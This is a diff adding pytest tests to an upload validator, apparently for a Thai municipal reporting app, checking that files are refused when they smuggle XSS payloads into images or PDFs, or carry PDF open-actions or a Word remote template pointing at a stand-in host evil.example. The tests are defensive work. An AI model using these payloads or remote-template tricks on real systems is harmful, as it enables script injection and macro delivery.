@@ -250,11 +250,127 @@ def png_with_text(text: bytes) -> bytes:
         ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 32 + b"<iframe src=//evil>"),
         ("คำสั่ง.pdf", b"<html><script>alert(1)</script>" + pdf()),
         ("คำสั่ง.pdf", pdf() + b"<!DOCTYPE html><html><script>x()</script>"),
+        ("ป้าย.png", png_with_text(b"<img src=x onerror=alert(document.domain)>")),
+        ("ป้าย.png", png_with_text(b"<svg/onload=alert(1)>")),
+        ("ป้าย.png", png_with_text(b'<meta http-equiv="refresh" content="0;url=//evil">')),
+        ("ป้าย.png", png_with_text("<script>alert(1)</script>".encode("utf-16-le"))),
+        ("คำสั่ง.pdf", pdf() + b"<img src=x onerror=alert(1)>"),
     ],
-    ids=["png-script", "png-html", "jpeg-iframe", "pdf-starting-as-html", "pdf-ending-as-html"],
+    ids=[
+        "png-script",
+        "png-html",
+        "jpeg-iframe",
+        "pdf-starting-as-html",
+        "pdf-ending-as-html",
+        "png-img-onerror",
+        "png-svg-onload",
+        "png-meta-refresh",
+        "png-utf16-script",
+        "pdf-ending-with-img-onerror",
+    ],
 )
 def test_a_file_that_is_two_formats_at_once_is_refused(
     client_as: Any, pattani_report: Report, name: str, content: bytes
 ) -> None:
     client = client_as("staff.pattanitown")
     assert refused(client, pattani_report, name, content) == POLYGLOT.format(name=name)
+
+
+# --- reaching out when opened ------------------------------------------------------------
+
+REACHES_OUT = (
+    "The PDF opens a web address or another file, or sends its form away, by itself. "
+    "Save or print it again as a plain PDF."
+)
+
+
+def action(**entries: Any) -> Any:
+    def build(document: Any) -> None:
+        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(**entries))
+
+    return build
+
+
+@pytest.mark.parametrize(
+    "build",
+    [
+        action(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/track")),
+        action(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf")),
+        action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/")),
+        action(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf")),
+    ],
+    ids=["opens-a-web-address", "opens-a-network-file", "submits-its-form", "imports-data"],
+)
+def test_a_pdf_that_reaches_out_by_itself_is_refused(
+    client_as: Any, pattani_report: Report, build: Any
+) -> None:
+    client = client_as("staff.pattanitown")
+    assert refused(client, pattani_report, "คำสั่ง.pdf", pdf(build)) == REACHES_OUT
+
+
+def test_a_pdf_with_a_link_to_click_is_kept(client_as: Any, pattani_report: Report) -> None:
+    def link(document: Any) -> None:
+        document.pages[0].obj.Annots = document.make_indirect(
+            pikepdf.Array(
+                [
+                    pikepdf.Dictionary(
+                        Type=pikepdf.Name.Annot,
+                        Subtype=pikepdf.Name.Link,
+                        Rect=[0, 0, 100, 20],
+                        A=pikepdf.Dictionary(
+                            S=pikepdf.Name.URI, URI=pikepdf.String("https://www.opdc.go.th/")
+                        ),
+                    )
+                ]
+            )
+        )
+
+    attach(client_as("staff.pattanitown"), pattani_report, "คำสั่ง.pdf", pdf(link))
+    assert Evidence.objects.get().kind == "pdf"
+
+
+REMOTE_TEMPLATE = (
+    "The document fetches a template, an object or a frame from elsewhere when it is "
+    "opened (a way to bring macros in). Save it again with everything inside it, or as PDF."
+)
+RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    "{}</Relationships>"
+)
+TEMPLATE_TYPE = (
+    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+)
+LINK_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+
+
+def test_a_word_file_that_fetches_a_remote_template_is_refused(
+    client_as: Any, pattani_report: Report
+) -> None:
+    document = package(
+        {
+            "[Content_Types].xml": DOCX_TYPES.format(extra=""),
+            "word/document.xml": "<w:document/>",
+            "word/_rels/settings.xml.rels": RELS.format(
+                f'<Relationship Id="rId1" Type="{TEMPLATE_TYPE}" '
+                'Target="http://evil.example/t.dotm" TargetMode="External"/>'
+            ),
+        }
+    )
+    client = client_as("staff.pattanitown")
+    assert refused(client, pattani_report, "แผน.docx", document) == REMOTE_TEMPLATE
+
+
+def test_a_word_file_with_a_hyperlink_is_kept(client_as: Any, pattani_report: Report) -> None:
+    document = package(
+        {
+            "[Content_Types].xml": DOCX_TYPES.format(extra=""),
+            "word/document.xml": "<w:document/>",
+            "word/_rels/document.xml.rels": RELS.format(
+                f'<Relationship Id="rId1" Type="{LINK_TYPE}" '
+                'Target="https://www.opdc.go.th/" TargetMode="External"/>'
+            ),
+        }
+    )
+    attach(client_as("staff.pattanitown"), pattani_report, "แผน.docx", document)
+    assert Evidence.objects.get().kind == "docx"
